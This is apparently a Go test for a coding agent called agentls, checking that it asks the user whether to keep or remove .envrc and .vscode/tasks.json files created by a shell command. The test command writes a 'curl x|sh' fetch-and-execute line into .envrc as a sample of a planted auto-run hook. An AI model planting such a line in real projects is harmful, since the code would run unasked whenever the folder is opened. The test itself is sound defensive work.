package acp_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	sdk "github.com/coder/acp-go-sdk"
)

// TestRunSentinelOnACP: an approved command that makes a new .envrc and
// .vscode/tasks.json (no sandbox can keep paths that do not exist yet) is
// followed by session/request_permission on the run's tool call, titled
// "Keep what `…` did (…)" and naming each file in a code span; Remove
// (reject_once) takes both away and the model reads that it was undone;
// Keep (allow_once) leaves them; the same when the command ran in the
// client's terminal. Fails on 8eeaf23: nothing was asked.
func TestRunSentinelOnACP(t *testing.T) {
	const command = `mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc`
	for _, tc := range []struct {
		name, choose, told string
		keep, terminal     bool
	}{
		{"remove", "reject_once", "so agentls undid it", false, false},
		{"keep", "allow_once", "the user was asked and kept them", true, false},
		{"remove after the client's terminal", "reject_once", "so agentls undid it", false, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			client := &testClient{}
			client.permit = func(_ context.Context, p sdk.RequestPermissionRequest) sdk.RequestPermissionOutcome {
				id := "allow_once" // the run question
				if p.ToolCall.Title != nil && strings.HasPrefix(*p.ToolCall.Title, "Keep what ") {
					id = tc.choose
				}
				return sdk.RequestPermissionOutcome{Selected: &sdk.RequestPermissionOutcomeSelected{OptionId: sdk.PermissionOptionId(id)}}
			}
			var caps sdk.ClientCapabilities
			if tc.terminal {
				caps = terminalCaps
			}
			r := newRig(t, setup{userConfig: buildByDefault, client: client, caps: caps, script: `
steps:
  - tool_calls: [{id: r, name: run, args: {command: "` + strings.ReplaceAll(command, `"`, `\"`) + `"}}]
  - expect: {tool_result_contains: {r: ['created .vscode/tasks.json', 'created .envrc', '` + tc.told + `']}}
    text: "OK."
`})
			sid := r.newSession().SessionId
			if stop := r.mustPrompt(sid, "go"); stop != sdk.StopReasonEndTurn {
				t.Fatalf("stop = %s", stop)
			}
			for _, rel := range []string{".vscode/tasks.json", ".envrc"} {
				_, err := os.Lstat(filepath.Join(r.dir, filepath.FromSlash(rel)))
				if there := err == nil; there != tc.keep {
					t.Errorf("%s there = %v after %s", rel, there, tc.name)
				}
			}
			client.terms.mu.Lock()
			terms := len(client.terms.list)
			client.terms.mu.Unlock()
			if tc.terminal != (terms == 1) {
				t.Errorf("%d terminals created, the command in the client's terminal: %v", terms, tc.terminal)
			}
			ps := client.permissionsSeen()
			if len(ps) != 2 {
				t.Fatalf("%d permission requests, want the run's and the one after it", len(ps))
			}
			p := ps[1].ToolCall
			if p.Title == nil || !strings.Contains(*p.Title, "created `.vscode/tasks.json`") || !strings.Contains(*p.Title, "created `.envrc`") {
				if p.Title != nil {
					t.Errorf("title = %q, want one naming each file it created as a code span", *p.Title)
				} else {
					t.Error("no title")
				}
			}
			if string(p.ToolCallId) != string(ps[0].ToolCall.ToolCallId) {
				t.Errorf("asked on tool call %s, the run is %s", p.ToolCallId, ps[0].ToolCall.ToolCallId)
			}
			if len(p.Content) == 0 || p.Content[0].Content == nil || p.Content[0].Content.Content.Text == nil {
				t.Fatalf("content = %+v", p.Content)
			}
			text := p.Content[0].Content.Content.Text.Text
			for _, want := range []string{"- `.vscode/tasks.json`: created", "- `.envrc`: created", "outside agentls's sandbox"} {
				if !strings.Contains(text, want) {
					t.Errorf("the question lacks %q:\n%s", want, text)
				}
			}
			var opts []string
			for _, o := range ps[1].Options {
				opts = append(opts, o.Name+"/"+string(o.Kind))
			}
			if strings.Join(opts, ",") != "Remove (restore)/reject_once,Keep/allow_once" {
				t.Errorf("options %v", opts)
			}
		})
	}
}
